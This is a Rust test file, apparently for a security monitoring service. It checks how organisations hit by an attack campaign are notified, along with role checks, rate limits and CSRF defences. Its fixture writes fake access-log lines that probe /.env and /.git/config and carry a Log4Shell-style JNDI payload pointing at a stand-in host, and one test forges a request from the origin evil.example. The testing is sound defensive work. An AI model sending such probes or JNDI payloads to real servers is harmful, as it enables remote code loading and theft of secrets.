//! Who is told of a campaign, what they read of it, and who may tell them.

use relight_engine::watch::Feed;
use relight_server::web::views::Stage;

use crate::door_support::{START, World, clock, person, token};

/// Times that anybody is told within an hour.
const TELLINGS_MAX: usize = 10;

/// The people of the tests: name, number and where they have which role.
const PEOPLE: [(&str, u8, &str, &str); 7] = [
    ("anna", 1, "commander", "/"),
    ("owner", 2, "site-owner", "health/Hospital"),
    ("sector", 3, "viewer", "health"),
    ("util", 4, "viewer", "energy/Utility"),
    ("town", 5, "viewer", "town"),
    ("reader", 6, "viewer", "/"),
    ("decider", 7, "approver", "/"),
];

struct Told {
    world: World,
    id: String,
    cookies: Vec<(&'static str, String)>,
}

impl Told {
    /// A source tries a payload at `care`, and only doors at `power`; of [`PEOPLE`] there is who
    /// is in `names`.
    fn start(now: fn() -> i64, names: &[&str]) -> Self {
        let mut cookies = Vec::new();
        let world = World::start(now, |store| {
            for (name, number, role, scope) in PEOPLE.iter().filter(|it| names.contains(&it.0)) {
                cookies.push((*name, person(store, name, *number, &[(role, scope)])));
            }
        });
        let line = |what: &str, minute: usize| {
            format!(
                "192.0.2.7 - - [10/Dec/2021:12:{minute:02}:00 +0000] \"GET {what} HTTP/1.1\" 404 \
                 12 \"-\" \"-\"\n"
            )
        };
        let doors = ["/.env", "/.git/config", "/solr/admin/info/system", "/wp-login.php"];
        let doors = || doors.iter().zip(0..).map(|(door, minute)| line(door, minute));
        let payload = line("/?q=${jndi:ldap://x.test/a}", 40);
        for (slug, lines) in
            [("power", doors().collect()), ("care", doors().chain([payload]).collect::<String>())]
        {
            let sites = world.store.sites().unwrap();
            let site = sites.into_iter().find(|site| site.slug.as_str() == slug).unwrap();
            let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
            world.engine.ingest_log(&feed, std::io::Cursor::new(lines)).unwrap();
        }
        let judged = world.engine.campaigns().unwrap();
        assert_eq!(judged.campaigns.len(), 1, "{:?}", judged.campaigns);
        assert_eq!(judged.campaigns[0].organisations.len(), 2, "{:?}", judged.campaigns);
        let id = judged.campaigns[0].id.clone();
        Self { world, id, cookies }
    }

    fn cookie(&self, name: &str) -> &str {
        &self.cookies.iter().find(|it| it.0 == name).unwrap().1
    }

    /// What anna is asked before.
    fn asked(&self, lang: &str) -> String {
        let path = format!("/watch/tell?lang={lang}&q={}", self.id);
        let (status, _, page) = self.world.get(&path, self.cookie("anna"));
        assert_eq!(status, 200, "{page}");
        page
    }

    fn tell(&self, name: &str, more: &str) -> (u16, String, String) {
        let cookie = self.cookie(name);
        let own = token(&self.world.get("/me?lang=en", cookie).2);
        let form = format!("token={own}&id={}{more}", self.id);
        self.world.post("/watch/tell?lang=en", cookie, &form)
    }

    /// What somebody is told on the page about oneself.
    fn notices(&self, name: &str, lang: &str) -> String {
        let page = self.world.get(&format!("/me?lang={lang}"), self.cookie(name)).2;
        let part = page.split("id=\"notices\"").nth(1).unwrap_or_default();
        part.split("</section>").next().unwrap().to_owned()
    }

    /// Whether nobody was told.
    fn is_silent(&self) -> bool {
        self.world.store.watch_notes().unwrap().is_empty()
            && self.cookies.iter().all(|(name, _)| self.notices(name, "en").is_empty())
    }
}

#[test]
fn each_one_is_told_of_the_own_organisation_and_nobody_else_is() {
    clock!(now, now_set);
    now_set(START);
    let told = Told::start(now, &PEOPLE.map(|it| it.0));
    let watch = told.world.get("/watch?lang=en", told.cookie("anna")).2;
    assert!(watch.contains("action=\"/watch/tell\"") && watch.contains("Tell the organisations"));
    assert!(told.asked("en").contains("3 people of 2 organisations will be told."));
    assert!(told.asked("fr").contains("3 personnes, dans 2 organismes, seront prévenues."));
    assert!(told.is_silent(), "nobody is told by a look");
    let (status, _, page) = told.tell("anna", "");
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("3 people of 2 organisations were told."), "{page}");
    for name in ["anna", "town", "reader", "decider"] {
        assert_eq!(told.notices(name, "en"), "", "{name}");
    }
    for (name, step, fr_step, other) in [
        ("owner", "exploit attempt", "tentative d’exploitation", "Utility"),
        ("sector", "exploit attempt", "tentative d’exploitation", "Utility"),
        ("util", "reconnaissance", "reconnaissance", "Hospital"),
    ] {
        let (en, fr) = (told.notices(name, "en"), told.notices(name, "fr"));
        let first = format!("anna tells you: campaign {} touched your organisation", told.id);
        for part in [
            &format!("{first} ({step})."),
            "Reconnaissance is not an indication of compromise. Keep the logs",
            "<a href=\"/sites?lang=en\">Your sites</a>",
        ] {
            assert!(en.contains(part), "{name} {part}: {en}");
        }
        let first = format!("la campagne {} a touché votre organisme ({fr_step}).", told.id);
        assert!(fr.contains(&first), "{name}: {fr}");
        assert!(fr.contains("<a href=\"/sites?lang=fr\">Vos sites</a>"), "{name}: {fr}");
        assert!(!en.contains(other) && !fr.contains(other), "{name}: {en}");
        let page = told.world.get("/sites?lang=en", told.cookie(name)).2;
        assert!(page.contains("1 notice for you"), "{name}: {page}");
    }
    let note = format!("{} owner:S3 sector:S3 util:S1", told.id);
    let wanted = (START, "anna".to_owned(), "tell".to_owned(), note);
    assert_eq!(told.world.store.watch_notes().unwrap(), [wanted]);
    let journal = told.world.journal();
    let wanted = |it: &&String| it.starts_with("anna ") && it.contains("campaign-told");
    assert_eq!(journal.iter().filter(wanted).count(), 3, "{journal:?}");
    told.world.web.stop();
}

#[test]
fn a_step_is_told_once_unless_it_is_asked_for_and_within_the_limit() {
    clock!(now, now_set);
    now_set(START);
    let told = Told::start(now, &["anna", "owner"]);
    // What nobody is there to read is on the page, for the telephone; older tellings do not count.
    for _ in 0..TELLINGS_MAX {
        told.world.store.put_watch_note(START - 3_600, "zoe", "tell", "C-OTHER owner:S5").unwrap();
    }
    let page = told.asked("en");
    assert!(page.contains("1 person of 1 organisation will be told."), "{page}");
    assert!(page.contains("To be telephoned") && page.contains("<li>Utility"), "{page}");
    assert!(!page.contains("<li>Hospital"), "{page}");
    let (status, _, page) = told.tell("anna", "");
    assert!(status == 200 && page.contains("<li>Utility"), "{page}");
    let (status, _, page) = told.tell("anna", "");
    assert!(status == 409 && page.contains("everybody was told of this step"), "{page}");
    let page = told.asked("fr");
    assert!(page.contains("Prévenir de nouveau") && page.contains("name=\"again\""), "{page}");
    assert!(page.contains("anna a prévenu 1 personne."), "{page}");
    for _ in 1..TELLINGS_MAX {
        assert_eq!(told.tell("anna", "&again=1").0, 200);
    }
    let (status, _, page) = told.tell("anna", "&again=1");
    assert!(status == 429 && page.contains("Organisations were told 10 times within"), "{page}");
    let notices = told.notices("owner", "en");
    assert!(notices.contains("(10 times)"), "{notices}");
    assert_eq!(told.world.store.watch_notes().unwrap().len(), 2 * TELLINGS_MAX);
    told.world.web.stop();
}

#[test]
fn only_who_looks_after_the_watch_tells_and_only_from_its_own_page() {
    clock!(now, now_set);
    now_set(START);
    let told = Told::start(now, &PEOPLE.map(|it| it.0));
    let path = format!("/watch/tell?lang=en&q={}", told.id);
    for name in ["owner", "sector", "util", "reader", "decider"] {
        let cookie = told.cookie(name);
        assert_eq!(told.world.get(&path, cookie).0, 403, "{name}");
        assert_eq!(told.tell(name, "").0, 403, "{name}");
        assert!(!told.world.get("/watch?lang=en", cookie).2.contains("/watch/tell"), "{name}");
    }
    assert_eq!(told.world.get(&path, "").0, 303);
    assert_eq!(told.world.post(&path, "", &format!("id={}", told.id)).0, 401);
    let anna = told.cookie("anna");
    let own = token(&told.asked("en"));
    let others = token(&told.world.get("/me?lang=en", told.cookie("owner")).2);
    for token in ["", "x", others.as_str()] {
        let form = format!("token={token}&id={}", told.id);
        assert_eq!(told.world.post(&path, anna, &form).0, 403, "{token}");
    }
    let form = format!("token={own}&id={}", told.id);
    let foreign = format!("Cookie: {anna}\r\nOrigin: https://evil.example\r\n");
    assert_eq!(told.world.post_from(&path, &foreign, &form).0, 403);
    assert_eq!(told.world.post(&path, anna, &format!("token={own}&id=C-NOBODY")).0, 404);
    // Six minutes later, who it is must be shown again.
    now_set(START + 360);
    let page = told.asked("en");
    assert!(page.contains("href=\"/confirm?next=") && !page.contains("Tell them"), "{page}");
    let (status, head, _) = told.tell("anna", "");
    assert!(status == 303 && head.contains("/confirm?next=%2fwatch%2ftell"), "{head}");
    assert!(told.is_silent());
    told.world.web.stop();
}

#[test]
fn of_a_campaign_that_was_played_nobody_is_told() {
    clock!(now, _set);
    let mut chief = String::new();
    let world = World::start_with(
        now,
        |config| config.stage = Stage::Drill,
        |store| chief = person(store, "chief", 1, &[("commander", "/")]),
    );
    let token = token(&world.get("/plans", &chief).2);
    assert_eq!(world.get("/watch/tell?q=C-1", &chief).0, 409);
    assert_eq!(world.post("/watch/tell", &chief, &format!("token={token}&id=C-1")).0, 409);
    world.web.stop();
}
